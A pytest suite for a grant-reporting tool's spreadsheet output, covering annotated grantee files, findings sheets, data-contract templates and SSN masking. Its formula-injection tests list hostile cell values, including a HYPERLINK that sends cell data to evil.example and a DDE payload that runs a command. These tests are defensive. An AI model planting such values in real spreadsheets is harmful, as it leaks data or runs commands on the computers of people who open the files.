"""The spreadsheets handed to grantees: their file back with the findings marked, and the
blank templates generated from the data contract. No database: pure functions."""

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest
import xlsxwriter
from openpyxl.worksheet.worksheet import Worksheet

from reporting.checks.types import Finding, Severity
from reporting.contract import COLUMNS, Kind, Requirement
from reporting.spreadsheets import annotated_workbook, csv_template, neutralise, xlsx_template
from reporting.spreadsheets.annotated import ERROR_FILL, WARNING_FILL

KINDS = ("participants", "placements")
RED = "FF" + ERROR_FILL.lstrip("#").upper()
YELLOW = "FF" + WARNING_FILL.lstrip("#").upper()


def error(row, column, message="is wrong", code="V02", value=None):
    return Finding(code, Severity.ERROR, "participants", row, column, value, message)


def warning(row, column, message="looks odd", code="L11", value=None):
    return Finding(code, Severity.WARNING, "participants", row, column, value, message)


def load(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def values(sheet: Worksheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def text(cell) -> str:
    """A text cell's value; openpyxl leaves Excel's escape of a carriage return as is."""
    return cell.value.replace("_x000D_", "\r")


def fill(sheet: Worksheet, ref: str) -> str | None:
    cell = sheet[ref]
    return cell.fill.fgColor.rgb if cell.fill.fill_type == "solid" else None


def xlsx(rows: list[list], *, date_cells: bool = True) -> bytes:
    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output, {"in_memory": True})
    sheet = workbook.add_worksheet("data")
    as_date = workbook.add_format({"num_format": "dd/mm/yyyy"})
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, date) and date_cells:
                sheet.write_datetime(r, c, value, as_date)
            elif isinstance(value, str):
                sheet.write_string(r, c, value)  # write() would make "=1+1" a formula
            elif value is not None:
                sheet.write(r, c, value)
    workbook.close()
    return output.getvalue()


# A participant file with a blank row (3), a ragged row (4: one field too many) and a
# multi-line quoted value (5), as a grantee's spreadsheet program would save it.
CSV_TEXT = (
    "participant_id,Exit Date,sex\r\n"
    "A1,20240101,1\r\n"
    "\r\n"
    "A2,2024,9,extra\r\n"
    '"A\nB",20240301,\r\n'
    "A4,20240401,2\r\n"
)


class TestAnnotatedCsv:
    def test_every_row_keeps_its_row_number(self):
        book = load(annotated_workbook("p.csv", CSV_TEXT.encode(), []))
        assert book.sheetnames == ["Your file", "Findings"]
        assert values(book["Your file"]) == [
            ["participant_id", "Exit Date", "sex", None, "errors"],
            ["A1", "20240101", "1", None, None],
            [None, None, None, None, None],
            # A column the checks do not read (here: no header) is not written back.
            ["A2", "2024", "9", None, None],
            ["A\nB", "20240301", None, None, None],
            ["A4", "20240401", "2", None, None],
        ]

    def test_a_byte_order_mark_is_not_part_of_the_first_header(self):
        sheet = load(annotated_workbook("p.csv", CSV_TEXT.encode("utf-8-sig"), []))["Your file"]
        assert sheet["A1"].value == "participant_id"
        assert sheet["A6"].value == "A4"

    def test_values_stay_text_exactly_as_given(self):
        content = b"participant_id,zip_code,wages_q2_after_exit\r\n007,02134,1200.50\r\n"
        sheet = load(annotated_workbook("p.csv", content, []))["Your file"]
        assert [c.value for c in sheet[2]][:3] == ["007", "02134", "1200.50"]

    def test_the_errors_column_lists_errors_then_warnings(self):
        findings = [
            warning(2, "sex", "sex 1 looks odd"),
            error(2, "exit_date", "exit_date is before entry_date", code="L01"),
            Finding("F04", Severity.ERROR, "participants", 4, None, None, "row 4 is ragged"),
        ]
        sheet = load(annotated_workbook("p.csv", CSV_TEXT.encode(), findings))["Your file"]
        assert sheet["E1"].value == "errors"
        assert sheet["E1"].font.b
        assert sheet["E2"].value == (
            "L01 Exit before entry, exit_date: exit_date is before entry_date\n"
            "L11 Employed with no wages, sex: sex 1 looks odd"
        )
        assert sheet["E4"].value == "F04 Row has the wrong number of fields: row 4 is ragged"
        assert sheet["E3"].value is None
        assert sheet["E6"].value is None

    def test_cells_named_by_an_error_are_red_and_by_a_warning_only_yellow(self):
        findings = [
            error(2, "exit_date"),  # the header says "Exit Date": matched as exit_date
            warning(2, "exit_date"),
            warning(2, "sex"),
            error(5, "sex", code="V01"),  # a blank cell is filled too
            warning(6, "participant_id"),
        ]
        sheet = load(annotated_workbook("p.csv", CSV_TEXT.encode(), findings))["Your file"]
        assert fill(sheet, "B2") == RED
        assert fill(sheet, "C2") == YELLOW
        assert fill(sheet, "C5") == RED
        assert sheet["C5"].value is None
        assert fill(sheet, "A6") == YELLOW
        assert fill(sheet, "A2") is None
        assert fill(sheet, "B6") is None

    def test_a_column_given_as_its_pirl_number_is_found(self):
        content = b"PIRL 100,pirl901\r\nA1,2024\r\n"
        sheet = load(annotated_workbook("p.csv", content, [error(2, "exit_date")]))["Your file"]
        assert fill(sheet, "B2") == RED
        assert fill(sheet, "A2") is None

    def test_header_findings_mark_the_header_and_leave_a_note(self):
        content = b"participant_id,shoe_size,sex\r\nA1,44,1\r\n"
        unknown = Finding(
            "F03", Severity.WARNING, "participants", 1, "shoe_size", None, "unknown column"
        )
        book = load(annotated_workbook("p.csv", content, [unknown, error(2, "sex")]))
        sheet = book["Your file"]
        assert fill(sheet, "B1") == YELLOW
        assert "F03 Unknown column, shoe_size: unknown column" in sheet["B1"].comment.text
        assert "1 error in this column" in sheet["C1"].comment.text
        assert sheet["A1"].comment is None
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == "A1:D2"

    def test_findings_past_the_last_row_still_get_their_line(self):
        sheet = load(annotated_workbook("p.csv", b"participant_id\r\nA1\r\n", [error(4, None)]))[
            "Your file"
        ]
        assert sheet["B4"].value == "V02 Invalid date: is wrong"

    def test_a_huge_list_of_findings_on_one_row_is_cut_to_fit_a_cell(self):
        findings = [error(2, "sex", "x" * 100) for _ in range(1_000)]
        sheet = load(annotated_workbook("p.csv", CSV_TEXT.encode(), findings))["Your file"]
        text = sheet["E2"].value
        assert len(text) <= 32_767
        assert text.endswith("(more on the Findings sheet)")


class TestAnnotatedXlsx:
    def test_rows_dates_and_numbers_come_back_where_they_were(self):
        content = xlsx(
            [
                ["participant_id", "entry_date", "wages_q2_after_exit", "sex"],
                ["A1", date(2024, 5, 2), 1200, "1"],
                [],
                ["A2", date(2024, 6, 3), 50.5, 2],
            ]
        )
        sheet = load(annotated_workbook("p.xlsx", content, [error(4, "entry_date")]))["Your file"]
        as_dates = [
            [v.date() if isinstance(v, datetime) else v for v in row] for row in values(sheet)
        ]
        assert as_dates == [
            ["participant_id", "entry_date", "wages_q2_after_exit", "sex", "errors"],
            ["A1", date(2024, 5, 2), 1200, "1", None],
            [None, None, None, None, None],
            ["A2", date(2024, 6, 3), 50.5, 2, "V02 Invalid date, entry_date: is wrong"],
        ]
        assert isinstance(sheet["B2"].value, datetime)
        assert sheet["B2"].number_format == "yyyy-mm-dd"
        assert sheet["B4"].number_format == "yyyy-mm-dd"
        assert fill(sheet, "B4") == RED
        assert fill(sheet, "B2") is None

    def test_text_cells_of_a_workbook_are_neutralised_too(self):
        content = xlsx([["participant_id", "sex"], ["=1+1", "@SUM(A1)"], ["A&B <x>", " 1 "]])
        sheet = load(annotated_workbook("p.xlsx", content, []))["Your file"]
        assert values(sheet)[1:] == [["'=1+1", "'@SUM(A1)", None], ["A&B <x>", " 1 ", None]]

    def test_a_dense_sheet_keeps_its_empty_first_rows(self):
        output = io.BytesIO()
        workbook = xlsxwriter.Workbook(output, {"in_memory": True})
        sheet = workbook.add_worksheet()
        sheet.write_string(2, 1, "participant_id")
        sheet.write_string(3, 1, "A1")
        workbook.close()
        book = load(annotated_workbook("p.xlsx", output.getvalue(), [error(4, None)]))
        assert book["Your file"]["B4"].value == "A1"
        assert book["Your file"]["C4"].value == "V02 Invalid date: is wrong"


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


class TestFormulaInjection:
    @pytest.mark.parametrize("value", INJECTIONS)
    def test_neutralise_prefixes_a_quote(self, value):
        assert neutralise(value) == "'" + value

    @pytest.mark.parametrize("value", ["", "plain", "1-2", "A=B", "'=already quoted", "20240101"])
    def test_neutralise_leaves_safe_text_alone(self, value):
        assert neutralise(value) == value

    @pytest.mark.parametrize("value", INJECTIONS)
    def test_a_dangerous_cell_comes_back_as_quoted_text(self, value):
        buffer = io.StringIO(newline="")
        csv.writer(buffer).writerows([["participant_id", "sex"], [value, "1"]])
        content = buffer.getvalue().encode()
        finding = error(2, "participant_id", message=value, value=value)
        book = load(annotated_workbook("p.csv", content, [finding]))
        data_cell = book["Your file"]["A2"]
        assert data_cell.data_type == "s"
        assert text(data_cell) == "'" + value
        found = book["Findings"]
        assert found["E2"].value.startswith("'")
        assert found["F2"].value.startswith("'")

    def test_a_dangerous_header_is_quoted(self):
        book = load(annotated_workbook("p.csv", b"=cmd,sex\r\nA1,1\r\n", []))
        assert book["Your file"]["A1"].value == "'=cmd"


class TestFindingsSheet:
    def test_every_finding_is_listed_file_level_first_then_by_row(self):
        findings = [
            error(5, "sex", "sex 7 is not allowed", code="V03", value="7"),
            warning(2, "exit_date", "later than usual"),
            error(2, "participant_id", "duplicated", code="D01", value="A1"),
            Finding("F02", Severity.ERROR, "participants", 1, "veteran", None, "missing"),
            Finding("F05", Severity.ERROR, "participants", None, None, None, "no data rows"),
        ]
        sheet = load(annotated_workbook("p.csv", CSV_TEXT.encode(), findings))["Findings"]
        assert values(sheet) == [
            ["row", "column", "code", "severity", "value", "message"],
            [None, None, "F05", "error", None, "no data rows"],
            [1, "veteran", "F02", "error", None, "missing"],
            [2, "participant_id", "D01", "error", "A1", "duplicated"],
            [2, "exit_date", "L11", "warning", None, "later than usual"],
            [5, "sex", "V03", "error", "7", "sex 7 is not allowed"],
        ]
        assert sheet.freeze_panes == "A2"
        assert sheet["A1"].font.b

    def test_no_findings_leaves_just_the_headings(self):
        sheet = load(annotated_workbook("p.csv", CSV_TEXT.encode(), []))["Findings"]
        assert values(sheet) == [["row", "column", "code", "severity", "value", "message"]]

    def test_many_findings_are_all_listed(self):
        findings = [error(2 + n % 5, "sex", f"finding {n}") for n in range(20_000)]
        book = load(annotated_workbook("p.csv", CSV_TEXT.encode(), findings))
        assert book["Findings"].max_row == 20_001
        assert fill(book["Your file"], "C6") == RED


class TestUnreadableFiles:
    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("p.csv", "participant_id\r\nAndré\r\n".encode("latin-1")),
            ("p.xlsx", b"PK\x03\x04 not really a workbook"),
            ("p.xlsx", b"\x00\x01\x02"),
        ],
    )
    def test_a_file_that_cannot_be_read_gives_the_findings_only(self, name, content):
        f01 = Finding("F01", Severity.ERROR, "participants", None, None, None, "unreadable")
        book = load(annotated_workbook(name, content, [f01]))
        assert book.sheetnames == ["Findings"]
        assert values(book["Findings"])[1] == [None, None, "F01", "error", None, "unreadable"]

    def test_a_readable_file_refused_at_format_level_is_not_shown(self):
        f01 = Finding("F01", Severity.ERROR, "participants", None, None, None, "too many rows")
        book = load(annotated_workbook("p.csv", CSV_TEXT.encode(), [f01]))
        assert book.sheetnames == ["Findings"]

    def test_it_never_raises_even_without_a_finding_to_explain(self):
        book = load(annotated_workbook("p.csv", b"\xff\xfe\x00bad", []))
        assert book.sheetnames == ["Findings"]


def header_cells(sheet: Worksheet) -> list:
    return [cell.value for cell in sheet[1]]


def list_validations(sheet: Worksheet) -> dict[str, object]:
    """Column letter → its list validation."""
    found = {}
    for validation in sheet.data_validations.dataValidation:
        if validation.type == "list":
            for cells in validation.sqref.ranges:
                found[cells.coord.split(":")[0].rstrip("0123456789")] = validation
    return found


def letter(index: int) -> str:
    return openpyxl.utils.get_column_letter(index + 1)


def column_format(sheet: Worksheet, index: int) -> str:
    """The number format of a whole column (neighbours alike share one <col> range)."""
    for dimension in sheet.column_dimensions.values():
        if dimension.min <= index + 1 <= dimension.max:
            return dimension.number_format
    return "General"


@pytest.mark.parametrize("kind", KINDS)
class TestXlsxTemplate:
    def test_the_header_is_the_contract_in_order(self, kind):
        book = load(xlsx_template(kind))
        assert book.sheetnames == [kind, "Data dictionary", "How to fill this in"]
        sheet = book[kind]
        assert header_cells(sheet) == [column.name for column in COLUMNS[kind]]
        assert sheet.max_row == 1
        assert sheet.freeze_panes == "A2"

    def test_required_headers_are_bold_on_their_own_fill(self, kind):
        sheet = load(xlsx_template(kind))[kind]
        for index, column in enumerate(COLUMNS[kind]):
            cell = sheet.cell(1, index + 1)
            assert bool(cell.font.b) is column.required, column.name
            if column.required:
                assert cell.fill.fill_type == "solid"
            else:
                assert cell.fill.fgColor.rgb != sheet["A1"].fill.fgColor.rgb

    def test_each_header_has_a_note_with_pirl_element_description_and_codes(self, kind):
        sheet = load(xlsx_template(kind))[kind]
        for index, column in enumerate(COLUMNS[kind]):
            note = sheet.cell(1, index + 1).comment.text
            assert column.description in note
            if column.pirl:
                assert f"PIRL element {column.pirl}" in note
            for code, meaning in column.codes.items():
                assert f"{code} = {meaning}" in note

    def test_every_coded_column_has_a_dropdown_of_exactly_its_codes(self, kind):
        sheet = load(xlsx_template(kind))[kind]
        dropdowns = list_validations(sheet)
        coded = {letter(i): c for i, c in enumerate(COLUMNS[kind]) if c.kind is Kind.CODE}
        assert set(dropdowns) == set(coded)
        for col, column in coded.items():
            validation = dropdowns[col]
            assert validation.formula1 == '"' + ",".join(column.codes) + '"', column.name
            assert str(validation.sqref) == f"{col}2:{col}200001"
            assert validation.showErrorMessage
            assert validation.errorStyle in (None, "stop")
            assert validation.error.startswith(f"{column.name} takes one of: ")
            assert len(validation.error) <= 255
            assert len(validation.prompt) <= 255
            assert validation.prompt.startswith(next(iter(column.codes)) + " = ")

    def test_date_columns_are_text_with_an_input_message(self, kind):
        sheet = load(xlsx_template(kind))[kind]
        prompts = {
            str(v.sqref): v.prompt
            for v in sheet.data_validations.dataValidation
            if v.type is None or v.type == "none"
        }
        for index, column in enumerate(COLUMNS[kind]):
            col = letter(index)
            if column.kind is Kind.DATE:
                assert prompts[f"{col}2:{col}200001"] == (
                    "Enter the date as YYYYMMDD, e.g. 20250815"
                )
            numeric = column.kind in (Kind.DOLLARS, Kind.HOURLY_WAGE, Kind.HOURS)
            expected = "General" if numeric else "@"
            assert column_format(sheet, index) == expected, column.name

    def test_the_data_dictionary_has_one_row_per_column(self, kind):
        rows = values(load(xlsx_template(kind))["Data dictionary"])
        assert rows[0] == ["column", "PIRL element", "required", "what it holds", "allowed values"]
        words = {
            Requirement.REQUIRED: "yes",
            Requirement.CONDITIONAL: "conditional",
            Requirement.OPTIONAL: "no",
        }
        assert len(rows) == len(COLUMNS[kind]) + 1
        for row, column in zip(rows[1:], COLUMNS[kind], strict=True):
            name, pirl, required, holds, allowed = row
            assert name == column.name
            assert pirl == (column.pirl if column.pirl else "—")
            assert required == words[column.requirement]
            assert holds == column.description
            for code, meaning in column.codes.items():
                assert f"{code} = {meaning}" in allowed
            if column.kind is Kind.DATE:
                assert allowed == "YYYYMMDD (also YYYY-MM-DD or a real date cell)"

    def test_the_instructions_are_short_and_cover_the_essentials(self, kind):
        rows = values(load(xlsx_template(kind))["How to fill this in"])
        lines = [text for number, text in rows[2:]]
        assert 8 <= len(lines) <= 12
        text = " ".join(lines)
        for needle in ("cumulative", "YYYYMMDD", "Leading zeros", "Social Security", "50 MB"):
            assert needle in text
        assert "200,000 rows" in text
        assert "CSV UTF-8" in text
        assert ".xlsx" in text
        assert "Upload" in text


class TestTemplates:
    @pytest.mark.parametrize("kind", KINDS)
    def test_the_csv_template_is_bom_header_and_crlf(self, kind):
        content = csv_template(kind)
        header = ",".join(column.name for column in COLUMNS[kind])
        assert content == b"\xef\xbb\xbf" + header.encode() + b"\r\n"

    @pytest.mark.parametrize("make", [xlsx_template, csv_template])
    def test_an_unknown_kind_is_refused(self, make):
        with pytest.raises(ValueError, match="unknown file kind"):
            make("employers")


def test_the_annotated_workbook_reads_back_in_the_checks_own_reader():
    from python_calamine import CalamineWorkbook

    content = xlsx([["participant_id", "entry_date"], ["\r=1", date(2024, 5, 2)], ["A_x0041_", 7]])
    out = annotated_workbook("p.xlsx", content, [error(3, "entry_date")])
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(out)).get_sheet_by_index(0)
    assert sheet.to_python() == [
        ["participant_id", "entry_date", "errors"],
        ["'\r=1", date(2024, 5, 2), ""],
        ["A_x0041_", 7.0, "V02 Invalid date, entry_date: is wrong"],
    ]


def test_the_annotated_workbook_shows_ssns_only_as_their_last_four_digits():
    from python_calamine import CalamineWorkbook

    content = b"participant_id,PIRL 2700,state_code\r\nP1,123-45-6789,CA\r\nP2,,OR\r\nP3,12,WA\r\n"
    book = CalamineWorkbook.from_filelike(io.BytesIO(annotated_workbook("p.csv", content, [])))
    rows = book.get_sheet_by_name("Your file").to_python()
    assert [row[1] for row in rows[:4]] == ["PIRL 2700", "***-**-6789", "", "(masked)"]
    assert "6789" not in "".join(str(c) for c in rows[1] if c != "***-**-6789")
